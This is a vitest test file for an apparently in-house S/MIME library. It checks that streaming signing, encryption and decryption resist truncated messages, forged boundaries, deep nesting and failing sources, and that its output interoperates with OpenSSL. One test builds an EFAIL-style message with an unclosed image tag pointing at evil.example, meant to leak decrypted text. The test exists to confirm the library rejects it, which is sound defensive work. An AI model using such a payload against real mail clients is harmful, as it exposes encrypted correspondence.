import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DecryptionKey } from '../../src/cms/keys.ts';
import { SealgateError } from '../../src/errors.ts';
import { limits } from '../../src/limits.ts';
import { encodeBase64 } from '../../src/mail/base64.ts';
import { bufferSource } from '../../src/octets/buffer-source.ts';
import { encryptedSpool } from '../../src/octets/encrypted-spool.ts';
import type { OctetSource, Spool, SpooledOctets } from '../../src/octets/source.ts';
import { encryptMessageStream } from '../../src/smime/encrypt-stream.ts';
import { openMessageStream, type StreamOpening } from '../../src/smime/open-stream.ts';
import { signMessageStream } from '../../src/smime/sign-stream.ts';
import { collect, inChunks } from '../mail/support/streams.ts';
import { crlf, People } from './support/people.ts';

/** What an attacker, or a source that fails, can do to a message that is handled piece by piece. */

let people: People;
let folder: string;
beforeAll(() => {
  people = new People();
  folder = mkdtempSync(join(tmpdir(), 'sealgate-streams-'));
});
afterAll(() => {
  people.remove();
  rmSync(folder, { recursive: true });
});

const AT = new Date();
const MESSAGE = crlf('From: alice@example.org\nTo: bob@example.org\nContent-Type: text/plain\n\nHello Bob\n');

/** A spool that knows what is left in it. */
class CountingSpool implements Spool {
  readonly #spool = encryptedSpool();
  open = 0;
  writing = 0;

  begin() {
    const writer = this.#spool.begin();
    this.writing++;
    let done = false;
    const end = () => {
      if (!done) this.writing--;
      done = true;
    };
    return {
      write: (octets: Uint8Array) => writer.write(octets),
      finish: async (): Promise<SpooledOctets> => {
        const spooled = await writer.finish();
        end();
        this.open++;
        let discarded = false;
        return {
          length: spooled.length,
          read: (start?: number, to?: number) => spooled.read(start, to),
          discard: async () => {
            if (!discarded) this.open--;
            discarded = true;
            await spooled.discard();
          },
        };
      },
      discard: async () => {
        end();
        await writer.discard();
      },
    };
  }
}

async function open(
  source: OctetSource,
  keys: readonly DecryptionKey[] = [people.key('bob')],
  spool: Spool = new CountingSpool(),
): Promise<StreamOpening> {
  const { certificate } = people.folder.authority;
  return openMessageStream(source, keys, { at: new Date(), anchors: [certificate], pool: [] }, spool);
}

async function signed(message: Buffer, form: 'clear' | 'opaque' = 'clear'): Promise<Buffer> {
  const source = await signMessageStream(bufferSource(message), people.signer('alice'), { form, at: AT });
  return collect(source.read());
}

async function encrypted(message: Buffer, algorithm: 'aes256-gcm' | 'aes256-cbc'): Promise<Buffer> {
  const source = bufferSource(message);
  return collect((await encryptMessageStream(source, [people.identity('bob')], algorithm)).octets);
}

describe('chunk borders', () => {
  it('make no difference at any octet of a signed mail: boundary lines, line ends, the signature', async () => {
    const mail = await signed(MESSAGE);
    for (let cut = 1; cut < mail.length; cut += 23) {
      const { report } = await open(inChunks(mail, [cut, mail.length]));
      expect(report.layers).toMatchObject([{ kind: 'signed', signatures: [{ signature: 'good' }] }]);
    }
  });

  it('make no difference at any octet of an encrypted mail: groups of base64, headers of ASN.1, the tag', async () => {
    const mail = await encrypted(MESSAGE, 'aes256-gcm');
    const body = mail.indexOf('\r\n\r\n') + 4;
    for (let cut = body; cut < mail.length; cut += 29) {
      const opening = await open(inChunks(mail, [cut, 1, mail.length]));
      expect((await collect(opening.entity.read())).toString()).toContain('Hello Bob');
      await opening.discard();
    }
  });

  it('hide no second place where a reader may find the parts', async () => {
    const mail = await signed(MESSAGE);
    const text = mail.toString('latin1');
    const boundary = /boundary="([^"]+)"/.exec(text)?.[1] ?? '';
    for (const line of [`\r\n--${boundary}x\r\n`, `\r--${boundary}\r`, `\n--${boundary}-- x\n`]) {
      const forged = Buffer.from(text.replace('Hello Bob', `Hello ${line} Bob`), 'latin1');
      for (const size of [1, 5, 64, 1_000]) {
        const { report, outcome } = await open(inChunks(forged, [size]));
        expect(outcome).toBe('as-is');
        expect(report.layers).toMatchObject([{ kind: 'signed', signatures: [{ signature: 'unsupported' }] }]);
      }
    }
  });
});

describe('a message that is cut off', () => {
  it('gives no octet of what is inside, leaves nothing in the spool, and fails in one way', async () => {
    for (const algorithm of ['aes256-gcm', 'aes256-cbc'] as const) {
      const mail = await encrypted(Buffer.concat([MESSAGE, Buffer.alloc(20_000, 'text\r\n')]), algorithm);
      const body = mail.indexOf('\r\n\r\n') + 4;
      for (const end of [body, body + 1, body + 500, body + 5_000, mail.length - 80, mail.length - 4]) {
        const spool = new CountingSpool();
        const cut = mail.subarray(0, end);
        const opening = await open(inChunks(cut, [1_000]), [people.key('bob')], spool);
        expect(opening.outcome).toBe('failed');
        expect(await collect(opening.entity.read())).toEqual(cut);
        expect(spool).toMatchObject({ open: 0, writing: 0 });
      }
    }
  });

  it('shows nothing of a signature that brings its content', async () => {
    const mail = await signed(MESSAGE, 'opaque');
    const spool = new CountingSpool();
    const opening = await open(inChunks(mail.subarray(0, mail.length - 100), [70]), [], spool);
    expect(opening.outcome).toBe('failed');
    expect(spool).toMatchObject({ open: 0, writing: 0 });
  });
});

describe('spools', () => {
  it('hold what is shown until it is discarded, and layers before it no longer', async () => {
    const layered = await encrypted(
      await encrypted(await signed(MESSAGE, 'opaque'), 'aes256-cbc'),
      'aes256-gcm',
    );
    const spool = new CountingSpool();
    const opening = await open(bufferSource(layered), [people.key('bob')], spool);
    expect(opening.report.layers.map(({ kind }) => kind)).toEqual(['encrypted', 'encrypted', 'signed']);
    expect(spool).toMatchObject({ open: 1, writing: 0 });
    expect((await collect(opening.entity.read())).toString()).toContain('Hello Bob');
    await opening.discard();
    await opening.discard();
    expect(spool).toMatchObject({ open: 0, writing: 0 });
  });

  it('are empty where a layer inside failed, nobody has its key, or there are too many', async () => {
    const outsider = [people.identity('carol')];
    const inner = await encryptMessageStream(bufferSource(MESSAGE), outsider, 'aes256-gcm');
    const noKey = await encrypted(await collect(inner.octets), 'aes256-gcm');
    const damaged = await encrypted((await encrypted(MESSAGE, 'aes256-gcm')).subarray(0, -60), 'aes256-gcm');
    let deep = MESSAGE;
    for (let i = 0; i <= limits.cms.layers; i++) deep = await encrypted(deep, 'aes256-cbc');
    for (const [mail, outcome] of [
      [noKey, 'no-key'],
      [damaged, 'failed'],
      [deep, 'failed'],
    ] as const) {
      const spool = new CountingSpool();
      const opening = await open(bufferSource(mail), [people.key('bob')], spool);
      expect(opening.outcome).toBe(outcome);
      expect(spool).toMatchObject({ open: 0, writing: 0 });
      expect(await collect(opening.entity.read())).toEqual(mail);
    }
  });

  it('are empty after the source failed, or a key was away', async () => {
    const mail = await encrypted(await signed(MESSAGE), 'aes256-gcm');
    const spool = new CountingSpool();
    let reads = 0;
    const failing: OctetSource = {
      length: mail.length,
      async *read(start, end) {
        if (++reads > 3) throw new Error('the disk is gone');
        yield* bufferSource(mail).read(start, end);
      },
    };
    await expect(open(failing, [people.key('bob')], spool)).rejects.toThrow('the disk is gone');
    expect(spool).toMatchObject({ open: 0, writing: 0 });
    const unavailable = new SealgateError({
      code: 'key.unavailable',
      publicText: 'away',
      duration: 'temporary',
    });
    const away: DecryptionKey = { ...people.key('bob'), decryptKey: () => Promise.reject(unavailable) };
    await expect(open(bufferSource(mail), [away], spool)).rejects.toBe(unavailable);
    expect(spool).toMatchObject({ open: 0, writing: 0 });
  });
});

describe('signing and encrypting', () => {
  it('let no octet out when the key fails or a recipient cannot be served', async () => {
    const failure = new SealgateError({ code: 'key.unavailable', publicText: 'away', duration: 'temporary' });
    const signer = { ...people.signer('alice'), sign: () => Promise.reject(failure) };
    for (const form of ['clear', 'opaque'] as const) {
      await expect(signMessageStream(bufferSource(MESSAGE), signer, { form, at: AT })).rejects.toBe(failure);
    }
    await expect(encryptMessageStream(bufferSource(MESSAGE), [], 'aes256-gcm')).rejects.toBeInstanceOf(
      SealgateError,
    );
  });

  it('refuse a boundary that occurs in the content, across chunks too', async () => {
    const message = crlf('From: alice@example.org\n\nsome --fixed text\n');
    const options = { form: 'clear', at: AT, boundary: 'fixed' } as const;
    for (const size of [1, 3, 7, 1_000]) {
      await expect(
        signMessageStream(inChunks(message, [size]), people.signer('alice'), options),
      ).rejects.toThrow('boundary');
    }
  });

  it('can be read once only where a nonce would meet two texts', async () => {
    const { octets } = await encryptMessageStream(
      bufferSource(MESSAGE),
      [people.identity('bob')],
      'aes256-gcm',
    );
    await collect(octets);
    await expect(collect(octets)).rejects.toThrow();
  });

  it('say that the message has changed meanwhile', async () => {
    let message = MESSAGE;
    const changing: OctetSource = {
      length: MESSAGE.length,
      read: (start, end) => bufferSource(message).read(start, end),
    };
    const { octets } = await encryptMessageStream(changing, [people.identity('bob')], 'aes256-gcm');
    message = MESSAGE.subarray(0, 20);
    await expect(collect(octets)).rejects.toMatchObject({ code: 'cms.content-changed' });
  });
});

describe('hostile structures', () => {
  it('multiparts and messages nested beyond the limit are refused as in memory', async () => {
    const nested = (count: number) =>
      'Content-Type: message/rfc822\r\n\r\n'.repeat(count).concat('From: a@b.c\r\n\r\nx\r\n');
    const multiparts = Array.from(
      { length: limits.mail.depth + 5 },
      (_, i) => `Content-Type: multipart/mixed; boundary=b${i}x\r\n\r\n--b${i}x\r\n`,
    ).join('');
    for (const text of [nested(limits.mail.depth + 2), multiparts]) {
      const source = inChunks(Buffer.from(text), [100]);
      await expect(
        signMessageStream(source, people.signer('alice'), { form: 'clear', at: AT }),
      ).rejects.toMatchObject({ code: 'mail.too-complex' });
    }
  });

  it('an encrypted part next to others is not opened (EFAIL)', async () => {
    const inner = (await encrypted(MESSAGE, 'aes256-cbc')).toString('latin1');
    const entity = inner.slice(inner.indexOf('Content-Type:'));
    const sandwich = crlf(
      `From: mallory@example.org\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="B"\n\n--B\nContent-Type: text/html\n\n<img src="http://evil.example/\n--B\n${entity}\n--B--\n`,
    );
    const spool = new CountingSpool();
    const opening = await open(inChunks(sandwich, [50]), [people.key('bob')], spool);
    expect(opening).toMatchObject({ outcome: 'as-is', report: { layers: [] } });
    expect(spool).toMatchObject({ open: 0, writing: 0 });
  });
});

/** 5 MB: more than any buffer on the way. */
const LARGE = Buffer.concat([
  crlf(
    'From: alice@example.org\nTo: bob@example.org\nSubject: Large\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n',
  ),
  encodeBase64(randomBytes(3_700_000)),
  crlf('--b\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\nGrüße \n--b--\n'),
]);

describe('messages of 5 MB and OpenSSL', () => {
  const file = (name: string, octets: Buffer) => people.folder.file(name, octets);

  it.each(['clear', 'opaque'] as const)('openssl verifies what the stream has signed: %s', async (form) => {
    const path = file(`large-${form}`, await signed(LARGE, form));
    const content = join(folder, `content-${form}`);
    const ca = people.folder.authority.certificateFile;
    people.openssl('cms', '-verify', '-in', path, '-CAfile', ca, '-crlfeol', '-out', content);
    expect((await readFile(content)).includes(LARGE.subarray(1_000, 2_000))).toBe(true);
  });

  it.each(['aes256-cbc', 'aes256-gcm'] as const)(
    'openssl decrypts what the stream has encrypted: %s',
    async (algorithm) => {
      const path = file(`large-${algorithm}`, await encrypted(LARGE, algorithm));
      const { keyFile, certificateFile } = people.identity('bob');
      const content = join(folder, `content-${algorithm}`);
      people.openssl(
        'cms',
        '-decrypt',
        '-in',
        path,
        '-recip',
        certificateFile,
        '-inkey',
        keyFile,
        '-out',
        content,
      );
      expect((await readFile(content)).length).toBeGreaterThan(5_000_000);
    },
  );

  it('opens what openssl has signed and encrypted, streamed (BER of indefinite length)', async () => {
    const [alice, bob] = [people.identity('alice'), people.identity('bob')];
    const entity = file('large-entity', LARGE.subarray(LARGE.indexOf('Content-Type')));
    const from = ['-from', 'alice@example.org'];
    const sign = ['cms', '-sign', '-in', entity, '-signer', alice.certificateFile, '-inkey', alice.keyFile];
    const path = (name: string) => join(folder, name);
    people.openssl(...sign, ...from, '-crlfeol', '-stream', '-out', path('theirs-clear'));
    people.openssl(...sign, ...from, '-crlfeol', '-nodetach', '-stream', '-out', path('theirs-opaque'));
    for (const name of ['theirs-clear', 'theirs-opaque']) {
      const encryptedFile = path(`${name}-encrypted`);
      const recipient = [bob.certificateFile];
      const options = ['-aes256', '-binary', '-stream', ...from, '-out', encryptedFile];
      people.openssl('cms', '-encrypt', '-in', path(name), ...options, ...recipient);
      const spool = new CountingSpool();
      const mail = await readFile(encryptedFile);
      const opening = await open(bufferSource(mail), [people.key('bob')], spool);
      expect(opening.report.layers).toMatchObject([
        { kind: 'encrypted', outcome: 'opened' },
        { kind: 'signed', signatures: [{ signature: 'good' }] },
      ]);
      const shown = await collect(opening.entity.read());
      expect(shown.includes(LARGE.subarray(1_000, 2_000))).toBe(true);
      await opening.discard();
      expect(spool).toMatchObject({ open: 0, writing: 0 });
    }
  });
});

it('a message of 20 MB is opened by a process with less memory for objects', async () => {
  const text = Buffer.alloc(
    14_800_000,
    'The quick brown fox jumps over the lazy dog and goes home to sleep\r\n',
  );
  const mail = await encrypted(await signed(Buffer.concat([MESSAGE, text])), 'aes256-gcm');
  expect(mail.length).toBeGreaterThan(20_000_000);
  const { keyFile, certificateFile } = people.identity('bob');
  writeFileSync(join(folder, 'mail'), mail);
  const src = new URL('../../src/', import.meta.url).pathname;
  const support = new URL('../cms/support/', import.meta.url).pathname;
  const program = `
    import { createPrivateKey } from 'node:crypto';
    import { readFileSync } from 'node:fs';
    import { openFileSource } from '${src}octets/file-source.ts';
    import { encryptedSpool } from '${src}octets/encrypted-spool.ts';
    import { readCertificates } from '${src}pki/certificate-file.ts';
    import { openMessageStream } from '${src}smime/open-stream.ts';
    import { decryptionKey } from '${support}software-keys.ts';
    const [mail, key, certificate, authority] = process.argv.slice(1);
    const [own] = readCertificates(readFileSync(certificate));
    const anchors = readCertificates(readFileSync(authority));
    const source = await openFileSource(mail);
    const context = { at: new Date(), anchors, pool: [] };
    const keys = [decryptionKey(createPrivateKey(readFileSync(key)), own)];
    const opening = await openMessageStream(source, keys, context, encryptedSpool());
    const signature = opening.report.layers[1].signatures[0].signature;
    let octets = 0;
    for await (const chunk of opening.entity.read()) octets += chunk.length;
    await opening.discard();
    await source.close();
    process.stdout.write(JSON.stringify([opening.outcome, signature, octets > 14_800_000]));`;
  const files = [join(folder, 'mail'), keyFile, certificateFile, people.folder.authority.certificateFile];
  const run = spawnSync(
    process.execPath,
    ['--max-old-space-size=20', '--input-type=module-typescript', '-e', program, ...files],
    { encoding: 'utf8' },
  );
  expect(run.stderr).toBe('');
  expect(JSON.parse(run.stdout)).toEqual(['opened', 'good', true]);
});
